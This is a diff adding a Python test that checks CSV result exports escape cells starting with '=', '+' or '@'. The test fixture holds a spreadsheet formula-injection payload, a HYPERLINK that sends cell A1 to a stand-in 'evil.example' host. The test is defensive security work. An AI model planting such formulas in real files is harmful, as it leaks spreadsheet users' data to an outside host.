@@ -169,6 +169,22 @@ def test_results_filter_and_formats(api: Api, auth_headers: Headers) -> None:
     assert results(api, job_id, auth_headers(), status="teapot").status_code == 400
 
 
+def test_csv_results_neutralise_cells_that_start_like_formulas(
+    api: Api, auth_headers: Headers
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    rows = [{**make_row(1), formula: 1}, make_row(-5), {**make_row(2), "@SUM(A1)": 1}]
+    job_id = submit(api, rows, auth_headers()).json()["data"]["jobId"]
+    api.run_queued()
+    as_csv = results(api, job_id, {**auth_headers(), "Accept": "text/csv"})
+    table = list(csv.reader(io.StringIO(as_csv.text)))
+    assert table[1][:2] == ["1", "400"]
+    assert table[1][2].startswith("'=HYPERLINK(")
+    assert table[2][:2] == ["-5", "201"]
+    assert table[3][2].startswith("'@SUM(A1)")
+    assert not any(cell.startswith(("=", "+", "@")) for row in table for cell in row)
+
+
 def test_read_back_lists_and_gets_rows_with_seed_names(api: Api, auth_headers: Headers) -> None:
     submit(api, [make_row(5, tax_ID="111"), make_row(3, tax_ID="222")], auth_headers())
     api.run_queued()
